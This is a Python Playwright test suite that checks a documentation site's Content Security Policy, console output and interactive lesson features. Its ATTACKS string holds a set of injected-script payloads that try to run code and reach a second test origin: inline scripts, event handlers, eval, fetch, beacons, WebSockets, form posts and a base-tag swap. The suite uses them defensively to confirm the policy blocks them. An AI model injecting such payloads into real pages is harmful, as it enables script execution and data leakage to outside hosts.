"""No page breaks its policy, whatever a reader uses; what gets into a page neither runs nor asks.

Playwright's `evaluate` is not bound by a page's policy, but what it adds to the page is.
"""

from playwright.sync_api import ConsoleMessage, Page, Route, expect

from tests.browser.reading import addresses
from tests.browser.shield.conftest import Other, Visit, eventually

LESSON = "/lessons/matmul/"
PAGES = [*addresses(), "/no/such/page/"]
BROKEN = "window.broken ?? []"


def watched(page: Page) -> list[str]:
    """What the console says about policies from now on."""
    said: list[str] = []

    def hear(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            said.append(message.text)

    page.on("console", hear)
    return said


def test_no_page_breaks_its_policy(visit: Visit, base: str) -> None:
    page = visit(base_url=base, service_workers="block").new_page()
    said = watched(page)
    broken = {}
    for address in PAGES:
        page.goto(address)
        page.hover("[data-md-component=palette] label:visible")  # fetches the theme's script
        eventually(page, "typeof window.component$", "object")
        broken[address] = page.evaluate(BROKEN)
        policy = page.locator("head > meta").nth(1)
        assert policy.get_attribute("http-equiv") == "Content-Security-Policy", address
        assert "unsafe-inline" not in (policy.get_attribute("content") or "").split("style-src")[0]
    assert {address: lines for address, lines in broken.items() if lines} == {}
    assert said == []
    assert len(broken) >= 16


def test_what_a_lesson_offers_works(visit: Visit, base: str) -> None:
    context = visit(base_url=base, color_scheme="light", service_workers="block")
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = context.new_page()
    said = watched(page)
    page.goto(LESSON)
    cell = page.locator("[data-snippet='snippets/matmul/forward_pass.py']")
    cell.get_by_role("button", name="Run").click()
    expect(cell.locator(".live-said")).to_have_text("✓ 6 of 6 claims hold.", timeout=60_000)
    page.locator("[data-md-component=palette] label:visible").click()
    chosen = "(prefers-color-scheme: light)"
    expect(page.locator("body")).to_have_attribute("data-md-color-media", chosen)
    page.locator(".tabbed-labels label", has_text="PyTorch").first.click()
    expect(page.locator(".tabbed-block .snippet:visible").first).to_contain_text("import torch")
    snippet = page.locator(".snippet:visible").first
    snippet.get_by_role("button", name="Copy").click()
    expect(snippet.get_by_role("button", name="Copied")).to_be_visible()
    page.get_by_role("switch", name="Quiz").click()
    page.locator("quiz-blank[role=button]:visible").first.click()
    page.get_by_role("button", name="Reveal").click()
    assert page.evaluate(BROKEN) == []
    page.goto("/errors/")
    page.get_by_label("Paste an error or a symptom").fill("self must be a matrix")
    expect(page.locator("error-finder a").first).to_have_attribute("href", "#must-be-a-matrix")
    page.locator("h1").click()
    page.keyboard.press("/")
    page.keyboard.type("matrix")
    page.locator(".md-search-result__item").first.wait_for()
    assert page.evaluate(BROKEN) == []
    assert said == []


def test_no_page_asks_github_for_stars(visit: Visit, base: str) -> None:
    page = visit(base_url=base, service_workers="block").new_page()
    said = watched(page)

    def published(route: Route) -> None:
        response = route.fetch()
        text = response.text().replace("https://example.org/a/b", "https://github.com/a/b")
        route.fulfill(response=response, body=text)

    page.route(f"**{LESSON}", published)
    page.goto(LESSON)
    page.hover("[data-md-component=palette] label:visible")
    eventually(page, "typeof window.component$", "object")
    page.wait_for_load_state("networkidle")
    expect(page.locator(".md-source").first).to_have_attribute("href", "https://github.com/a/b")
    assert page.evaluate(BROKEN) == said == []


ATTACKS = """other => {
  const add = (tag, attributes) => {
    const element = Object.assign(document.createElement(tag), attributes)
    document.body.append(element)
    return element
  }
  const happens = (target, event) =>
    new Promise((done, fail) => Object.assign(target, {[`on${event}`]: done, onerror: fail}))
  window.ran = []
  add("script", {textContent: "ran.push('inline script')"})
  add("div", {innerHTML: "<img src='data:,' onerror='ran.push(`handler`)'>"})
  add("a", {href: "javascript:ran.push('address')"}).click()
  add("script", {src: other + "/script.js"})
  add("script", {type: "module", textContent: `import "${other}/script.js"`})
  add("img", {src: other + "/image.png"})
  add("iframe", {src: other + "/frame"})
  add("link", {rel: "stylesheet", href: other + "/style.css"})
  add("iframe", {srcdoc: "<script>parent.ran.push('frame')</script>"})
  add("link", {rel: "prefetch", href: other + "/prefetch"})
  add("object", {data: other + "/object"})
  add("base", {href: other})
  add("form", {action: other + "/form", target: add("iframe", {name: "inside"}).name}).submit()
  navigator.sendBeacon(other + "/beacon")
  const tried = {
    eval: () => eval("ran.push('eval')"),
    Function: () => new Function("ran.push('Function')")(),
    fetch: () => fetch(other + "/fetch", {mode: "no-cors"}),
    import: () => import(other + "/script.js"),
    socket: () => happens(new WebSocket(other.replace("http", "ws")), "open"),
    worker: () => happens(new Worker("data:text/javascript,postMessage(1)"), "message"),
    wasm: () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  }
  // Not in this call: what a debugger runs may use eval.
  return new Promise(resolve => setTimeout(async () => {
    const answers = {}
    for (const [name, attempt] of Object.entries(tried))
      try { await attempt(); answers[name] = "done" } catch { answers[name] = "refused" }
    setTimeout(() => resolve({answers, ran, foreign: window.foreign, base: document.baseURI}), 500)
  }))
}"""


def test_what_gets_into_a_page_neither_runs_nor_asks(visit: Visit, base: str, other: Other) -> None:
    page = visit(base_url=base, service_workers="block").new_page()
    page.goto("/receipts/")
    found = page.evaluate(ATTACKS, other.base)
    assert found["ran"] == []
    assert found.get("foreign") is None
    assert other.asked == []
    assert set(found["answers"].values()) == {"refused"}, found["answers"]
    assert found["base"].startswith(base)
    broken = page.evaluate(BROKEN)
    for directive in ("script-src-elem", "script-src-attr", "script-src", "img-src", "connect-src"):
        assert any(line.startswith(f"{directive}: ") for line in broken), (directive, broken)


def test_without_the_policy_it_would(visit: Visit, base: str, other: Other) -> None:
    context = visit(base_url=base, service_workers="block", bypass_csp=True)
    page = context.new_page()
    page.goto("/receipts/")
    found = page.evaluate(ATTACKS, other.base)
    assert {"inline script", "handler", "frame", "eval", "Function"} <= set(found["ran"])
    assert found["foreign"] is True
    asked = {path for path, _ in other.asked}
    assert {"/script.js", "/image.png", "/frame", "/style.css", "/fetch"} <= asked
